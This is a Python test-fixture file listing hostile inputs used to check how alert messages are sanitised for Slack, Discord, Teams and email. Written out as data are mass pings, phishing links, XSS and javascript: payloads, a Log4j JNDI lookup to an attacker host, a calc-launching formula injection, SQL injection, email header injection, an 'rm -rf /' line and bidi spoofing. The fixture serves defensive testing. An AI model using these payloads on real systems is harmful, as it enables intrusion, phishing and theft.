"""Texts that a visitor could type to harm those who read an alert; every channel meets them all.

`HOSTILE` maps a short name to the text, so that a golden file can be read beside this page.
"""

from __future__ import annotations

_ZWJ_FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
_LINK = "https://evil.example/login"

HOSTILE: dict[str, str] = {
    # Pings
    "slack channel ping": "<!channel> urgent",
    "slack here ping": "<!here|here> and <!everyone>",
    "slack user ping": "<@U024BE7LH> look at this",
    "slack group ping": "<!subteam^S012AB3CD|@sales>",
    "slack channel link": "<#C024BE7LR|general>",
    "slack date": "<!date^1392734382^{date} at {time}|now>",
    "plain at-channel": "@channel @here @everyone",
    "discord everyone": "@everyone free nitro, @here too",
    "discord user ping": "<@80351110224678912> and <@!80351110224678912>",
    "discord role ping": "<@&165511591545143296>",
    "discord channel": "<#103735883630395392>",
    "discord slash command": "</airhorn:816437322781949972>",
    "discord timestamp": "<t:1618953630:R>",
    "discord emoji": "<a:b1nzy:392938283556143104> :skull:",
    "discord guild navigation": "<id:customize>",
    "teams mention": "<at>Everyone</at>",
    # Links
    "slack link": f"<{_LINK}|your invoice>",
    "bare link": f"see {_LINK}?a=1&b=2#top now",
    "bare domain": "www.evil.example and evil.example/pay",
    "link in angle brackets": f"<{_LINK}>",
    "markdown link": f"[click me]({_LINK})",
    "markdown link with title": f'[click]({_LINK} "a title")',
    "markdown script link": "[x](javascript:alert(1))",
    "markdown reference link": f"[x][1]\n\n[1]: {_LINK}",
    "markdown image": "![pixel](https://evil.example/pixel.png)",
    "nested brackets": f"[[a](b)]({_LINK}) \\[c\\]({_LINK})",
    "other schemes": "javascript:alert(1) data:text/html,x file:///etc/passwd tel:+1900"
    " mailto:a@b.example",
    "invite": "discord.gg/abcdef https://discord.gg/abcdef",
    "capital scheme": "HTTPS://EVIL.EXAMPLE/ hTtP://evil.example",
    "email address": "ceo@evil.example",
    # Formatting
    "emphasis": "*bold* _italic_ ~strike~ **strong** __under__ ~~gone~~ ||spoiler||",
    "code": "`code` ```block\nrm -rf /```",
    "headings": "# Big\n## Smaller\n-# small print",
    "quotes": "> quoted\n>>> all of it\n&gt; escaped",
    "lists": "- one\n* two\n+ three\n1. four\n2) five",
    "rule and table": "---\n| a | b |\n| - | - |",
    "backslashes": "\\*\\_\\` C:\\temp\\new",
    "leading spaces and code": "    indented code\n\ttab",
    "entities": "&lt;!channel&gt; &amp; &#60;b&#62; &nbsp;",
    "emoji codes": ":rotating_light: :+1::skin-tone-5:",
    # Other people's languages
    "html": '<script>alert(1)</script><img src=x onerror="alert(1)"><b>bold</b>',
    "html attribute": "\"><a href='https://evil.example'>x</a><!--",
    "template marks": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0} %s %(name)s",
    "adaptive card template": "${name} {{DATE(2026-11-21T09:30:00Z, LONG)}}"
    " {{TIME(2026-11-21T09:30:00Z)}}",
    "power automate expression": "@{triggerBody()} @concat('a','b')",
    "json": '", "text": "<!channel>", "x": "\\u003c!here\\u003e',
    "hyperlink formula": '=HYPERLINK("https://evil.example","click")',
    "sum formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sql": "'; DROP TABLE leads; --",
    "encoded word": "=?utf-8?B?PCFjaGFubmVsPg==?= =?utf-8?Q?Bcc:_x@evil.example?=",
    "log4j": "${jndi:ldap://evil.example/a}",
    # Line ends and control characters
    "header injection": "Jane\r\nBcc: victim@evil.example\r\n\r\nbody",
    "other line ends": "a\x0bb\x0cc\x85d\u2028e\u2029f\rg",
    "nul": "Ja\x00ne \x00",
    "control characters": "\x07bell \x1b[31mred\x1b[0m \x08\x7f \x9b31m",
    "only blanks": " \t\n \u00a0\u2003 ",
    "only invisible": "\u200b\u200c\u200d\ufeff\u2060\u3164",
    "empty": "",
    # Unicode
    "lone surrogate": "high \ud83d low \udc00 end",
    "noncharacters": "a\ufffe\uffffb\U0001ffff",
    "bidi override": "invoice\u202efdp.exe\u202c",
    "bidi isolates": "\u2066a\u2067b\u2069c\u2069 \u202bx\u202a y",
    "arabic": "مرحبا بالعالم (Acme) 123",
    "zero width inside a ping": "@\u200beveryone <\u200b!channel>",
    "tags": "flag \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
    " hidden \U000e0041\U000e0042",
    "combining marks": "Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0335lgo"
    + "\u0489" * 200,
    "full-width signs": "＠everyone ＜!channel＞ ［x］（https：//evil.example）",
    "emoji families": _ZWJ_FAMILY * 120,
    "flags and skin tones": "\U0001f1e9\U0001f1ea\U0001f44d\U0001f3fd" * 150,
    "astral letters": "\U0001d54f" * 3000,
    # Sizes
    "very long word": "w" * 5000,
    "very long line": "please call me back " * 500,
    "many lines": "line\n" * 4000,
    "marks only": "*_~`|>[]()#\\<&" * 400,
    "quotes only": '"' * 8000,
    "ten megabytes": "0123456789" * 1_048_576,
}
